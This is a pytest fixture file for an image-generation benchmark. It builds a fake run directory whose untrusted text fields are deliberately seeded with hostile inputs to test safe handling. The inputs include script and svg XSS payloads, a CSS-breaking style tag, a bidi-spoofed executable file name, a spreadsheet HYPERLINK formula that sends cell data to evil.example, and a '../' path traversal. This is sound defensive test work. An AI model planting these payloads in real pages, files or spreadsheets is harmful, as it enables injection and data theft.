"""A run directory written by hand: the files of a run, with hostile text wherever text is untrusted."""

import json
from dataclasses import asdict
from functools import partial

import pytest
from PIL import Image
from playwright.sync_api import sync_playwright

from local_bench.core.images import store_image
from local_bench.core.types import Task, digest
from local_bench.runs.config import ImportedConfig, JudgeConfig, ModelConfig, RunConfig, SettlementConfig
from local_bench.runs.rundir import RunDir
from tests.chromium import ARGUMENTS, chromium_path

SCRIPT = "<script>alert(1)</script>"
SVG = '"><svg onload=alert(2)>'
STYLE_END = "</style><style>*{display:none}</style>"
BIDI = "evil\u202egnp.exe\u2066\u200b\x07\x00"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
REASON = f"the answer was cut off {SCRIPT}"
HOUR_USD = "1.80"
H100 = "NVIDIA H100 80GB HBM3"
ELSEWHERE = "some-api"
GAMMA, DELTA = digest({"judge": 1}), digest({"judge": 2})


def order(task_id, category, price_micro_usd, n, **more):
    task = {
        "title": f"Order {task_id}",
        "brief": f"A calm picture.\nSecond line {SVG}",
        "deliverables": tuple(f"Deliverable {i} {STYLE_END}" for i in range(1, n + 1)),
        "evaluation_points": ("The lamp is lit", f"No text {SCRIPT}"),
    }
    return Task(task_id=task_id, category=category, price_micro_usd=price_micro_usd, **(task | more))


class Writer:
    """Puts rows into an open run's ledger."""

    def __init__(self, run):
        self.run = run
        self.write = run.store.write
        self.position = 0

    def task(self, task, position):
        content = json.dumps(asdict(task))
        row = (task.task_id, position, task.category, task.price_micro_usd, content, task.unscored)
        self.write("INSERT INTO tasks VALUES (?, ?, ?, ?, ?, ?)", *row)

    def candidate(self, task, deliverable, model, state="done", reason=None, cost_micro_usd=None, work_too=None):
        work = {"task": task.task_id, "deliverable": deliverable, "model": model} | (work_too or {})
        work_id, done, elsewhere = digest(work), state == "done", model == ELSEWHERE
        self.position += 1
        colour = tuple(int(work_id[i : i + 2], 16) for i in (0, 2, 4))
        sha = store_image(self.run.path / "images", Image.new("RGB", (320, 240), colour)) if done else None
        made_here = (4, json.dumps({"clip": 3 * deliverable, "t5": 0})) if done and not elsewhere else (None, None)
        row = (
            work_id,
            self.position,
            task.task_id,
            deliverable,
            model,
            f"{task.title}. {task.brief}",
            json.dumps(work),
        )
        row += (None, None) if elsewhere else (240, 320)
        row += (state, digest({"work": work_id}) if done else None, sha, reason, *made_here, cost_micro_usd)
        self.write("INSERT INTO candidates VALUES (?, ?, ?, ?, ?, 1, ?, ?, 7, ?, ?, ?, ?, ?, ?, ?, ?, ?)", *row)
        return work_id

    def decision(self, work_id, accepted, reason=None):
        self.write(
            "INSERT INTO decisions VALUES (?, ?, ?, 0)", work_id, None if accepted is None else int(accepted), reason
        )

    def score(self, work_id, name, value, reason=None, kind="judge", spread=None):
        applies = int(value is not None or reason is not None)
        row = (work_id, name, kind, value, reason, applies, spread)
        self.write("INSERT INTO scores VALUES (?, ?, ?, ?, ?, ?, ?)", *row)

    def verdict(self, work_id, rubric, point, answer, raw="", reason=None, repeat=0, judge=GAMMA, labels=None):
        texts = tuple(None if value is None else json.dumps(value) for value in (answer, labels))
        ids = (digest({"q": [work_id, rubric, point, repeat]}), digest({"rubric": rubric}), judge)
        row = (work_id, rubric, point, repeat, *ids, *texts, reason, raw)
        self.write("INSERT INTO verdicts VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)", *row)

    def retest(self, work_id, rubric, answer, reason=None, judge=GAMMA, round_=1):
        text = None if answer is None else json.dumps(answer)
        row = (work_id, rubric, 0, 0, judge, round_, "0" * 64, text, None, reason, "")
        self.write("INSERT INTO retests VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)", *row)

    def judges(self, labels, *noted):
        """Who judged (judge id -> label), and what provenance has of them."""
        self.run.store.set_meta("judges", json.dumps(labels))
        if noted:
            first, *panel = noted
            self.run.store.set_meta("provenance", json.dumps({"judge": first, "panel": panel}))

    def meter(self, rows, device="cpu"):
        """(phase, model, held ns, items, millijoules) in sequence, as one more session on `device`."""
        held_ns = sum(row[2] for row in rows)
        number = self.run.store.rows("SELECT count(*) + 1 AS n FROM sessions")[0]["n"]
        begun = (number, "2026-01-02T03:04:05+00:00", device, held_ns, "done")
        self.write("INSERT INTO sessions VALUES (?, ?, ?, ?, ?)", *begun)
        at = 0
        for phase, model, ns, items, energy in rows:
            row = (number, at, at + ns, phase, model, items, energy)
            self.write("INSERT INTO meter VALUES (?, ?, ?, ?, ?, ?, ?)", *row)
            at += ns

    def operations(self, model, flop, planned_batch_size=4, **more):
        """What one image of any kind takes; as many at once were planned."""
        one = {"flop": flop, "least_flop": flop, "planned_batch_size": planned_batch_size}
        kinds = dict.fromkeys(("240x320", "240x320+same"), one)
        self.run.store.set_meta(f"operations:{model}", json.dumps({"kinds": kinds} | more))


@pytest.fixture
def make_run(tmp_path):
    """`write_run` into this test's folder."""
    return partial(write_run, tmp_path / "run")


def write_run(
    path, *, gap=True, planned=False, no_source=False, price=HOUR_USD, coverage_min=0.98, on_gpus=False, panel=False
):
    """Write a run directory and return its path.

    Two models, two orders of 35 and 100 dollars with one and two images. `alpha` gets everything accepted and `beta`
    nothing; of `beta` the last image is unscored (`gap`) or has not been made (`planned`). With `no_source`, a third
    order of 15 dollars cannot be carried out. With `on_gpus`, the images were made on two of them, those of `beta`
    with a step cache, and `some-api` made the first order's image elsewhere. With `panel`, a second judge, `delta`,
    had the same questions as `gamma`, both saw the set in both orders, and `gamma` was judged again on the first image.
    """
    config = RunConfig(
        name="hostile",
        seed=7,
        models=[ModelConfig(card="alpha"), ModelConfig(card="beta"), *([IMPORTED] if on_gpus else [])],
        judge=JudgeConfig(card="gamma"),
        panel=[JudgeConfig(card="delta", protocol="logit", name="delta")] if panel else [],
        metrics=["piqe"],
        settlement=SettlementConfig(usd_per_hour=price, coverage_min=coverage_min),
    )
    with RunDir.begin(path, config) as run, run.store.transaction():
        _fill(Writer(run), gap, planned, on_gpus)
        if panel:
            _panel(Writer(run))
        if no_source:
            _impossible(Writer(run))
    (path / "provenance.json").write_text(json.dumps({"python": "3.11", "packages": {SCRIPT: [1, 2, BIDI]}}))
    return path


IMPORTED = ModelConfig(card="imported", name=ELSEWHERE, imported=ImportedConfig(images="made"))


def _fill(to, gap, planned, on_gpus):
    source = store_image(to.run.inputs, Image.new("RGB", (400, 100), (200, 30, 30)))
    given = {"source_sha256": source, "reference_sha256": ("../" * 20 + "etc/x",)}
    orders = [
        order(
            "t1", f"Portrait {SCRIPT}", 35_000_000, 1, title=f"{SCRIPT}{SVG}{STYLE_END}{BIDI}", notes=(f"note {SVG}",)
        ),
        order("t2", FORMULA, 100_000_000, 2, title=FORMULA, **given),
    ]
    to.judges({GAMMA: "gamma"})
    for position, task in enumerate(orders):
        to.task(task, position)
    for model in ("alpha", "beta"):
        for task in orders:
            for i in range(1, len(task.deliverables) + 1):
                last = model == "beta" and task.task_id == "t2" and i == 2
                if last and planned:
                    to.candidate(task, i, model, "planned")
                else:
                    _judged(to, to.candidate(task, i, model), model, open_=last and gap)
    if on_gpus:
        _on_gpus(to, orders[0])
        return
    to.meter(
        [
            ("load", "alpha", 2_000_000_000, 0, None),
            ("denoise", "alpha", 10_000_000_001, 3, 5_000),
            ("denoise", "beta", 7_000_000_000, 3, 4_000),
            ("judge", None, 61_000_000_000, 12, 9_000),
            ("idle", None, 1_000_000, 0, None),
        ]
    )


def _panel(to):
    """`delta` holds every point of `alpha` for met, and of `beta` only the first; both rate one set lower the other
    order, and `gamma` answers differently about the first image in the repetition."""
    to.judges({GAMMA: "gamma", DELTA: "delta"}, note_of("gamma", GAMMA), DELTA_NOTE)
    rows = to.run.store.rows("SELECT work_id, model, task_id, deliverable FROM candidates ORDER BY position")
    for row in rows:
        work_id, alpha = row["work_id"], row["model"] == "alpha"
        for point, met in enumerate((1, int(alpha))):
            labels = {"met": {"0": 0.12, "1": 0.88} if met else {"0": 1.0, "1": 0.0}}
            to.verdict(work_id, "brf", point, {"met": met}, judge=DELTA, labels=labels)
        if row["task_id"] == "t2":
            for judge in (GAMMA, DELTA):
                to.verdict(work_id, "cns_set", 0, {"score": 4, "flags": []}, judge=judge)
                other = {"score": 4 if alpha else 2, "flags": []}
                to.verdict(work_id, "cns_set", 0, other, judge=judge, repeat=1)
        to.write("UPDATE scores SET spread = 0.25 WHERE work_id = ? AND name = 'brf'", work_id)
    to.retest(rows[0]["work_id"], "brf", {"met": 0})
    to.retest(rows[1]["work_id"], "brf", {"met": 1})
    to.retest(rows[2]["work_id"], "brf", None, "no answer")


def note_of(name, judge_id, **more):
    """What provenance notes of a judge that nobody tried."""
    note = {"name": name, "judge_id": judge_id, "card": name, "protocol": "json-2", "transport": "embedded"}
    untried = {"reproducible": None, "note": "batch invariance was not checked", "attacks": None}
    return note | untried | more


DELTA_NOTE = note_of(
    "delta",
    DELTA,
    protocol="logit-1",
    transport="served",
    server="external",
    reproducible=False,
    note="its answers change in a crowd: a second run may find others",
    attacks={"n": 15, "n_unscored": 1, "fooled_by": ["painted-json", SCRIPT]},
)


def _on_gpus(to, first):
    """Three images of `alpha` in 4.4 s each, two on one device and one on the other; three of `beta` in 2 s each."""
    s = 1_000_000_000
    at_500_w = 500_000  # millijoules a second
    one = [("load", "alpha", 20, 0), ("warm-up", "alpha", 10, 0), ("encode", "alpha", 1, 3)]
    one += [("denoise", "alpha", 8, 2), ("decode", "alpha", 0.8, 2)]
    one += [("load", "beta", 20, 0), ("denoise", "beta", 5.7, 3), ("decode", "beta", 0.3, 3)]
    two = [("load", "alpha", 20, 0), ("denoise", "alpha", 4, 1), ("decode", "alpha", 0.4, 1)]
    for rows in (one, two):
        to.meter([(phase, model, int(t * s), n, int(t * at_500_w)) for phase, model, t, n in rows], H100)
    to.operations("alpha", 2_100_000_000_000_000)
    to.operations("beta", 2_100_000_000_000_000, uncounted="no floor: its cache skips work")
    work = {"model": {"imported": ELSEWHERE}, "pixels": "0" * 64}
    to.decision(to.candidate(first, 1, ELSEWHERE, cost_micro_usd=137_406, work_too=work), accepted=True)


def _impossible(to):
    to.position = 100
    task = order("t3", FORMULA, 15_000_000, 1, unscored=f"The source image is not there {SVG}")
    to.task(task, 2)
    for model in ("alpha", "beta"):
        to.decision(to.candidate(task, 1, model, "unscored", task.unscored), None, task.unscored)


def _judged(to, work_id, model, *, open_):
    to.verdict(work_id, "brf", 0, {"met": 1}, '{"met":1}')
    to.score(work_id, "brf", 4.0 if model == "alpha" else 2.5)
    to.score(work_id, "veq_text", None)
    if open_:
        to.verdict(work_id, "brf", 1, None, f"{SCRIPT}{SVG}{BIDI} {FORMULA}", REASON)
        to.score(work_id, "veq", None, REASON)
        to.decision(work_id, None, f"veq: {REASON}")
    else:
        to.verdict(work_id, "brf", 1, {"met": 0}, f"-1+{FORMULA}")
        to.score(work_id, "veq", 3.5)
        to.score(work_id, "piqe", 41.25, kind="metric")
        to.decision(work_id, model == "alpha")


@pytest.fixture(scope="module")
def browser():
    path = chromium_path()
    with sync_playwright() as playwright:
        running = playwright.chromium.launch(executable_path=path, args=ARGUMENTS)
        yield running
        running.close()
